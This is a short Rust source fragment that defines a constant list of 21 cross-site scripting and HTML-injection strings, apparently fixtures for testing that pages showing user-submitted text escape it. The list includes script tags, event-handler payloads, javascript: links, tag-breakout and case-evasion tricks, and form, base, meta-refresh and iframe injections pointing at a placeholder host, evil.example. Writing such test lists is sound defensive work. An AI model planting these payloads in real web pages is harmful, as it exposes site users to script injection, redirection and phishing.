//! What is tried on every page that shows texts of people.

/// What somebody may try to slip into a page by a text.
pub(crate) const SLIPPED: [&str; 21] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "'><body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">看</a>",
    "<iframe src=\"//evil.example\"></iframe>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><button>签发</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=//evil.example></object>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<ScRiPt/x>alert`1`</sCrIpT>",
    "<p style=\"background:url(//evil.example)\">",
];
